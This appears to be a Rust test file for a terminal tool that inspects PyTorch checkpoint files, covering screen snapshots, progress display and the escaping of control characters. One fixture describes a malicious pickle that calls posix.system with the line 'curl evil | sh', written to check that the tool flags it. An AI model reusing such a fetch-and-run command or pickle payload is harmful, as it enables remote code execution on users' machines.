//! What the screen looks like: text and styles, at three sizes and in each set of colours; and that it can be drawn at any
//! size, whatever was done before.

use std::sync::Arc;
use std::time::Duration;

use crate::common::sample::{self, act, draw, engines_ready, measure_all, select, state, wide_document};
use proptest::prelude::*;
use ratatui::buffer::Buffer;
use ratatui::layout::Rect;
use serde_json::json;
use t2m_checkpoint::PickleGlobal;
use t2m_checkpoint::progress::{Of, Progress as ReadProgress};
use t2m_engine::{EngineState, Side};
use t2m_tui::exit::Exit;
use t2m_tui::export::state_dict::{Doubt, Known};
use t2m_tui::export::writer::{Phase, Progress};
use t2m_tui::open::watch::{Now, Stage};
use t2m_tui::source::inference::Reached;
use t2m_tui::source::{Blocker, Reach};
use t2m_tui::triage::Triage;
use t2m_tui::tui::action::{Action, Command, Effect};
use t2m_tui::tui::converting::{self, Preview, Row};
use t2m_tui::tui::document::{About, Document, Pickle};
use t2m_tui::tui::draw::render;
use t2m_tui::tui::keymap::Keymap;
use t2m_tui::tui::panels::Name;
use t2m_tui::tui::panels::findings::Kind;
use t2m_tui::tui::panels::keep::Where;
use t2m_tui::tui::panes::Pane;
use t2m_tui::tui::snapshot::{rows, styled};
use t2m_tui::tui::state::{Screen, State};
use t2m_tui::tui::theme::{Level, Theme};
use t2m_tui::verify::Event;

fn measured(theme: &str, path: &str) -> State {
    let mut state = state(theme);
    measure_all(&mut state);
    select(&mut state, path);
    state
}

fn commands(state: &mut State, commands: &[Command]) {
    for &command in commands {
        act(state, Action::Command(command));
    }
}

#[test]
fn three_panes() {
    let mut state = measured("dark", "encoder.attn");
    insta::assert_snapshot!(styled(&draw(&mut state, 160, 45)));
}

#[test]
fn three_panes_light() {
    let mut state = measured("light", "layer1.0.conv2");
    insta::assert_snapshot!(styled(&draw(&mut state, 160, 45)));
}

#[test]
fn two_panes_with_the_source() {
    let mut state = measured("dark", "layer2.1.gn");
    insta::assert_snapshot!(styled(&draw(&mut state, 100, 30)));
}

#[test]
fn two_panes_with_the_measurement() {
    let mut state = measured("dark", "layer2.1.gn");
    commands(&mut state, &[Command::PreviousPane]);
    insta::assert_snapshot!(styled(&draw(&mut state, 100, 30)));
}

#[test]
fn one_pane_each() {
    let mut state = measured("dark", "layer2.1.gn");
    insta::assert_snapshot!("one_pane_tree", styled(&draw(&mut state, 58, 16)));
    commands(&mut state, &[Command::NextPane]);
    insta::assert_snapshot!("one_pane_source", styled(&draw(&mut state, 58, 16)));
    commands(&mut state, &[Command::NextPane]);
    insta::assert_snapshot!("one_pane_measured", styled(&draw(&mut state, 58, 16)));
}

#[test]
fn without_colours_and_with_fewer() {
    for (name, level) in [("no_color", Level::Never), ("sixteen_colours", Level::Ansi16), ("palette", Level::Ansi256)] {
        let mut state = measured("dark", "layer2.0.bn1");
        state.theme = state.theme.at(level);
        insta::assert_snapshot!(name, styled(&draw(&mut state, 100, 30)));
    }
}

#[test]
fn a_selection_shows_without_colours() {
    let mut state = measured("dark", "pool");
    state.theme = state.theme.at(Level::Never);
    let picture = styled(&draw(&mut state, 100, 30));
    let row = picture.lines().position(|line| line.contains("pool ")).unwrap();
    let runs = picture.lines().find(|line| line.starts_with(&format!("{row}: "))).unwrap();
    assert!(runs.contains("1-98 bold reversed") || runs.contains("bold reversed"), "{runs}");
    assert!(picture.lines().nth(row).unwrap().starts_with("│▌"));
}

#[test]
fn ascii_alone() {
    let mut state = measured("dark", "layer1.0");
    state.ascii = true;
    let buffer = draw(&mut state, 160, 45);
    assert!(rows(&buffer).iter().all(|row| row.is_ascii()));
    insta::assert_snapshot!(styled(&buffer));
}

#[test]
fn overlays_and_the_search() {
    let mut state = measured("dark", "encoder.attn");
    commands(&mut state, &[Command::Open(Name::Help)]);
    insta::assert_snapshot!("help", rows(&draw(&mut state, 160, 45)).join("\n"));
    commands(
        &mut state,
        &[Command::Dismiss, Command::Open(Name::Filter), Command::Toggle, Command::Up, Command::Toggle],
    );
    insta::assert_snapshot!("filter", styled(&draw(&mut state, 100, 30)));
    commands(&mut state, &[Command::Clear, Command::Accept, Command::Open(Name::Find)]);
    for character in "conv2 layer2".chars() {
        act(&mut state, Action::Text(character));
    }
    insta::assert_snapshot!("find", styled(&draw(&mut state, 100, 30)));
}

/// The sample, out of a file whose pickle would have run a command.
fn suspicious() -> State {
    let mut state = measured("dark", "encoder.attn");
    let mut document = (*sample::document()).clone();
    let global =
        |name: &str, allowed, dangerous, count| PickleGlobal { name: name.to_owned(), allowed, dangerous, count };
    document.warnings = vec!["The key `w` comes twice; the second value, at byte 211, counts.".to_owned()];
    document.about = About {
        path: "downloads/vision_mini.pt".to_owned(),
        shards: 1,
        tensors: 61,
        wrappers: vec!["state_dict".to_owned(), "module.".to_owned()],
        known_as: None,
        architecture: Vec::new(),
        ports: Vec::new(),
        dicts: Vec::new(),
        metadata: [("epoch".to_owned(), json!(12)), ("args".to_owned(), json!({"lr": 0.001, "note": "a\u{1b}[31mb"}))]
            .into_iter()
            .collect(),
        unreadable: vec![("mask.indices".to_owned(), "is sparse, which no layer is computed with".to_owned())],
        pickle: Some(Pickle {
            module_classes: 9,
            foreign: vec![global("posix.system", false, true, 1), global("acme.config.Config", false, false, 2)],
            refused: vec!["posix.system(\"curl evil | sh\") at byte 118".to_owned()],
            allowed: vec![global("collections.OrderedDict", true, false, 240)],
        }),
    };
    act(&mut state, Action::Opened(Arc::new(document)));
    state
}

#[test]
fn the_panel_about_the_file_names_ports_and_whose_word_that_is() {
    let mut state = measured("dark", "encoder.attn");
    let mut document = (*sample::document()).clone();
    document.about.ports = vec!["mlx-lm 0.32.2: mlx_lm.models.llama".to_owned()];
    act(&mut state, Action::Opened(Arc::new(document)));
    commands(&mut state, &[Command::Open(Name::About)]);
    let screen = rows(&draw(&mut state, 160, 45)).join("\n");
    assert!(screen.contains("ready in    mlx-lm 0.32.2: mlx_lm.models.llama"), "{screen}");
    assert!(screen.contains("as the package says itself; nothing of it is measured here"), "{screen}");
}

#[test]
fn a_suspicious_pickle_is_said_loudly_and_shown() {
    let mut state = suspicious();
    let screen = rows(&draw(&mut state, 160, 45)).join("\n");
    assert!(
        screen.contains("could run code with posix.system and 1 more, outside torch's weights_only list"),
        "{screen}"
    );
    assert!(screen.contains("⚑ pickle"), "{screen}");
    commands(&mut state, &[Command::Open(Name::About)]);
    insta::assert_snapshot!("about", styled(&draw(&mut state, 160, 45)));
    insta::assert_snapshot!("about_small", rows(&draw(&mut state, 60, 16)).join("\n"));
    commands(&mut state, &[Command::Down, Command::Dismiss]);
    assert!(!rows(&draw(&mut state, 160, 45)).join("\n").contains("About the file"));
}

/// A preview of some tensors, measured and not.
fn preview() -> Preview {
    let document = sample::document();
    let row = |(id, module): (usize, &t2m_tui::model::Module)| Row {
        name: format!("{}.weight", module.path),
        from: format!("{}.weight", module.path),
        rule: if id % 3 == 0 { "conv2d".to_owned() } else { "identity".to_owned() },
        module: id,
        known: if id == 2 {
            Known::Copied(Doubt::Other("its class is not known".to_owned()).into())
        } else {
            Known::Plan
        },
    };
    let rows = document.model.modules.iter().enumerate().skip(1).map(row).collect();
    Preview { target: "vision_mini.mlx.safetensors".into(), bytes: 4_928_307, rows, left: 3 }
}

#[test]
fn a_conversion_is_previewed_with_what_was_measured() {
    let mut state = measured("dark", "encoder.attn");
    commands(&mut state, &[Command::Open(Name::Convert)]);
    let waiting = rows(&draw(&mut state, 160, 45)).join("\n");
    assert!(waiting.contains("reading names and shapes"), "{waiting}");
    act(&mut state, Action::Converting(converting::Event::Planned(Ok(Arc::new(preview())))));
    insta::assert_snapshot!("convert", styled(&draw(&mut state, 160, 45)));
    // The first asks for the path, the second takes it.
    commands(&mut state, &[Command::Accept, Command::Accept]);
    act(
        &mut state,
        Action::Converting(converting::Event::Progress(Progress {
            phase: Phase::Comparing,
            done: 3 << 20,
            total: 4 << 20,
            tensor: "encoder.attn.weight".into(),
        })),
    );
    insta::assert_snapshot!("convert_small", rows(&draw(&mut state, 70, 18)).join("\n"));
    let refused = "vision_mini.mlx.safetensors: is there already; --force replaces it".to_owned();
    act(&mut state, Action::Converting(converting::Event::Ended(Err(refused))));
    let ended = rows(&draw(&mut state, 160, 45)).join("\n");
    assert!(ended.contains("is there already") && !ended.contains("comparing"), "{ended}");
    commands(&mut state, &[Command::Down, Command::Dismiss]);
    assert!(!rows(&draw(&mut state, 160, 45)).join("\n").contains("vision_mini.mlx"));
}

#[test]
fn blockers_in_the_file_of_a_base_are_told_at_the_class() {
    let sample = sample::document();
    let mut classes = sample.triage.classes.clone();
    let block = classes.values_mut().find(|source| !source.blockers.is_empty()).unwrap();
    let blocker = Blocker { line: 321, ..block.blockers.remove(0) };
    block.blockers.clear();
    block.inherited = vec![("vision/base.py".to_owned(), blocker)];
    let triage = Triage { modules: sample.triage.modules.clone(), classes, ..Triage::default() };
    let document = Document::new("vision_mini.pt".to_owned(), sample.model.clone(), Arc::new(triage));
    let mut state = state("dark");
    act(&mut state, Action::Opened(Arc::new(document)));
    // The first is the root's own.
    for _ in 0..2 {
        draw(&mut state, 160, 45);
        commands(&mut state, &[Command::NextBlocker]);
    }
    let screen = rows(&draw(&mut state, 160, 45)).join("\n");
    assert!(screen.contains("⚑ breaks .item() in vision/base.py:321"), "{screen}");
}

#[test]
fn what_only_training_reaches_is_dimmed_and_not_counted() {
    let sample = sample::document();
    let (model, classes) = (sample.model.clone(), sample.triage.classes.clone());
    // Training alone reaches the `.item()`, of the others it is not known.
    let reached = model.modules.iter().map(|module| {
        let source = classes.get(module.class.as_str())?;
        let of = |pattern: &str| if pattern == ".item()" { Reach::Training } else { Reach::Unknown };
        let blockers = source.all_blockers().map(|(_, blocker)| Some(of(&blocker.pattern))).collect();
        Some(Arc::new(Reached { blockers, ops: Vec::new(), idioms: Vec::new(), seen: Default::default() }))
    });
    let reached = reached.collect();
    let triage = Triage { modules: sample.triage.modules.clone(), classes, reached, ..Triage::default() };
    let document = Document::new("vision_mini.pt".to_owned(), model, Arc::new(triage));
    let (counted, all) = (document.flags(), sample.flags());
    assert!(counted < all && document.serious_below(0) == counted, "{counted} of {all}");
    let last = document.findings.last().unwrap();
    assert!(matches!(last.kind, Kind::Blocker(_, Reach::Training)) && last.words.starts_with("Training only"));
    let first = &document.findings[0];
    assert!(first.words.starts_with("Whether the model runs it is not known."), "{}", first.words);
    let mut state = state("dark");
    act(&mut state, Action::Opened(Arc::new(document)));
    assert!(rows(&draw(&mut state, 160, 45))[0].contains(&format!("⚑ {counted}")));
    select(&mut state, "layer1.0");
    let screen = rows(&draw(&mut state, 160, 45)).join("\n");
    assert!(screen.contains("training only") && screen.contains("undecided"), "{screen}");
    commands(&mut state, &[Command::Open(Name::Findings)]);
    assert!(rows(&draw(&mut state, 160, 45)).join("\n").contains("⚑ training"));
}

#[test]
fn what_would_be_run_and_why_not() {
    let mut state = state("dark");
    select(&mut state, "encoder.attn");
    commands(&mut state, &[Command::PreviousPane]);
    insta::assert_snapshot!("plan", rows(&draw(&mut state, 100, 30)).join("\n"));
    select(&mut state, "roi");
    insta::assert_snapshot!("no_plan", rows(&draw(&mut state, 100, 30)).join("\n"));
    engines_ready(&mut state);
    let down = EngineState::Down("t2m-mlx is not beside this program; T2M_MLX can name it".to_owned());
    act(&mut state, Action::Verify(Event::Engine(Side::Mlx, down)));
    insta::assert_snapshot!("engine_down", rows(&draw(&mut state, 100, 30)).join("\n"));
}

#[test]
fn a_failed_layer_says_why() {
    let mut state = measured("dark", "encoder.mlp.1");
    let text = rows(&draw(&mut state, 160, 45)).join("\n");
    assert!(text.contains("! failed"), "{text}");
    assert!(
        text.contains("t2m-mlx crashed with signal 6 (abort); it will be started again for the next layer"),
        "{text}"
    );
}

#[test]
fn opening_failing_and_too_small() {
    let theme = Theme::load("dark", |_| None).unwrap();
    let mut state = State::new("weights\u{1b}[2J.pt".to_owned(), theme, Keymap::built_in().unwrap());
    let opening = rows(&draw(&mut state, 60, 15)).join("\n");
    assert!(opening.contains("opening weights\\u{1b}[2J.pt …"), "{opening}");
    assert!(opening.contains("q esc quit"), "{opening}");
    // How far each step is, how fast, and how long it takes yet.
    let at = |stage, of, done, total| Action::Opens(Now { stage, progress: Some(ReadProgress { of, done, total }) });
    let mut seen = |seconds: u64, action: Action, size: (u16, u16)| {
        state.clock = Duration::from_secs(seconds);
        act(&mut state, action);
        rows(&draw(&mut state, size.0, size.1)).join("\n")
    };
    seen(1, at(Stage::Reading, Of::Bytes, 0, 400 << 20), (60, 15));
    let text = seen(3, at(Stage::Reading, Of::Bytes, 100 << 20, 400 << 20), (60, 15));
    assert!(text.contains("reading 25 % · 50.0 MiB/s · 6 s left") && text.contains("… 3 s"), "{text}");
    assert!(text.contains("reading what is in the file"), "{text}");
    let text = seen(3, at(Stage::Reading, Of::Bytes, 100 << 20, 400 << 20), (30, 15));
    assert!(text.contains("25 % 6 s") && text.contains("q esc quit"), "{text}");
    let text = seen(4, at(Stage::Triage, Of::Modules, 0, 1_000_000), (60, 15));
    assert!(text.contains("modules 0/1000000   q esc quit"), "each step has its own time: {text}");
    let text = seen(6, at(Stage::Triage, Of::Modules, 500_000, 1_000_000), (60, 15));
    assert!(text.contains("modules 500000/1000000 · 250000/s · 2 s left"), "{text}");
    let text = seen(7, Action::Opens(Now { stage: Stage::Showing, progress: None }), (60, 15));
    assert!(!text.contains("modules 5") && text.contains("counting what is to be shown"), "{text}");
    for command in [Command::Quit, Command::Dismiss] {
        let effects = act(&mut state, Action::Command(command));
        assert!(matches!(effects[..], [Effect::Quit(Exit::Fine)]), "{effects:?}");
    }
    let message =
        "weights.pt: the pickle ends at byte 4096, in the middle of an opcode. The download may be incomplete.";
    act(&mut state, Action::OpenFailed(message.to_owned()));
    insta::assert_snapshot!("failed", rows(&draw(&mut state, 60, 15)).join("\n"));
    insta::assert_snapshot!("too_small", rows(&draw(&mut state, 16, 4)).join("\n"));
}

#[test]
fn without_source_the_pane_says_how_to_give_it() {
    let mut state = state("dark");
    act(&mut state, Action::Opened(wide_document(500)));
    insta::assert_snapshot!("no_source", rows(&draw(&mut state, 100, 30)).join("\n"));
}

#[test]
fn text_from_the_file_cannot_reach_the_terminal_as_it_is() {
    let mut state = state("dark");
    let Screen::Open(view) = &mut state.screen else { panic!() };
    let mut document = (*view.document).clone();
    let mut model = (*document.model).clone();
    model.modules[2].name = "ev\u{1b}]0;il\u{202e}".into();
    document.name = "a\u{9b}31mb.pt".to_owned();
    document.model = model.into();
    act(&mut state, Action::Opened(document.into()));
    for (width, height) in [(160, 45), (100, 30), (58, 16)] {
        let text = rows(&draw(&mut state, width, height)).join("\n");
        assert!(!text.chars().any(|at| (at.is_control() && at != '\n') || at == '\u{202e}'), "{text}");
        assert!(text.contains("a\\u{9b}31mb.pt"));
    }
}

#[test]
fn a_frame_of_a_large_model_costs_the_rows_on_screen() {
    let mut state = state("dark");
    act(&mut state, Action::Opened(wide_document(62_000)));
    commands(&mut state, &[Command::UnfoldAll, Command::Bottom]);
    let text = rows(&draw(&mut state, 120, 40)).join("\n");
    assert!(text.contains("▌      ● w99"), "{text}");
    let Screen::Open(view) = &state.screen else { panic!() };
    assert!(view.tree.rows.len() > 61_000);
}

#[test]
fn every_size_can_be_drawn() {
    let mut state = measured("dark", "layer1.0.gn");
    for panel in Name::ALL.into_iter().map(Some).chain([None]) {
        commands(&mut state, &[Command::Dismiss]);
        if let Some(name) = panel.filter(|name| *name != Name::Leave) {
            commands(&mut state, &[Command::Open(name), Command::Bottom]);
        }
        if panel == Some(Name::Leave) {
            commands(&mut state, &[Command::RunAll, Command::Quit]);
        }
        assert_eq!(state.panels.open, panel);
        for width in (0..90).step_by(7).chain([119, 120, 121, 200]) {
            for height in (0..30).step_by(3).chain([60]) {
                let area = Rect::new(0, 0, width, height);
                render(&mut state, area, &mut Buffer::empty(area));
            }
        }
    }
}

fn any_action() -> impl Strategy<Value = Action> {
    use Command::*;
    let mut commands = vec![
        Run,
        RunAll,
        Cancel,
        FindNext,
        FindPrevious,
        NextBlocker,
        PreviousBlocker,
        NextPane,
        PreviousPane,
        Down,
        Up,
        Left,
        Right,
        Fold,
        FoldAll,
        UnfoldAll,
        HalfDown,
        HalfUp,
        PageDown,
        PageUp,
        Top,
        Bottom,
        Mouse,
        Accept,
        Dismiss,
        Erase,
        EraseAll,
        Toggle,
        Clear,
        Complete,
        Sort,
        Group,
        Back,
        Forward,
        Nodes,
        Search,
        Yes,
        No,
        Zoom,
        Narrower,
        Wider,
        Shorter,
        Taller,
        Half,
        Weights,
        Twins,
        Quit,
    ];
    commands.extend(Name::ALL.map(Open));
    commands.extend(Where::ALL.map(Keep));
    let command = prop::sample::select(commands);
    prop_oneof![
        6 => command.prop_map(Action::Command),
        1 => any::<char>().prop_map(Action::Text),
        1 => ".{0,9}".prop_map(Action::Paste),
        2 => (0u16..130, 0u16..50).prop_map(|(column, row)| Action::Click(column, row)),
        2 => (0u16..130, 0u16..50, any::<bool>()).prop_map(|(column, row, on)| Action::Drag(column, row, on)),
        1 => (0u16..130, 0u16..50, -3i32..4).prop_map(|(column, row, by)| Action::Wheel(column, row, by)),
        1 => Just(Action::Tick),
        1 => (0usize..60, 0usize..9).prop_map(|(module, trials)| Action::Verify(Event::Started { module, trials })),
        1 => any::<bool>().prop_map(|cancelled| Action::Verify(Event::Done { cancelled })),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn nothing_that_is_done_breaks_a_later_frame(
        steps in prop::collection::vec((any_action(), 0u16..200, 0u16..60), 1..40),
    ) {
        let mut state = state("dark");
        for (action, width, height) in steps {
            act(&mut state, action);
            let area = Rect::new(0, 0, width, height);
            let mut buffer = Buffer::empty(area);
            render(&mut state, area, &mut buffer);
            let Screen::Open(view) = &state.screen else { panic!() };
            let on_show = view.tree.row_of(view.tree.selected).is_some() || view.tree.head().is_some();
            prop_assert!(view.tree.rows.is_empty() || on_show);
            prop_assert_eq!(buffer.area, area);
        }
    }

    #[test]
    fn any_source_and_any_names_can_be_drawn(
        text in "(\\PC{0,40}\n|\t.{0,9}\n|漢字{0,30}\n){0,20}", name in ".{0,30}", left in 0usize..60, width in 20u16..140,
    ) {
        let mut state = state("dark");
        let Screen::Open(view) = &mut state.screen else { panic!() };
        let mut document = (*view.document).clone();
        let mut triage = t2m_tui::triage::Triage { modules: document.triage.modules.clone(), ..Default::default() };
        for (class, source) in &document.triage.classes {
            triage.classes.insert(class.clone(), t2m_tui::source::ClassSource { text: text.as_str().into(), ..source.clone() });
        }
        document.triage = triage.into();
        document.name = name;
        act(&mut state, Action::Opened(document.into()));
        let Screen::Open(view) = &mut state.screen else { panic!() };
        view.source.left = left;
        view.focus = Pane::Source;
        let area = Rect::new(0, 0, width, 30);
        let mut buffer = Buffer::empty(area);
        render(&mut state, area, &mut buffer);
        prop_assert!(rows(&buffer).iter().all(|row| !row.chars().any(char::is_control)));
    }
}
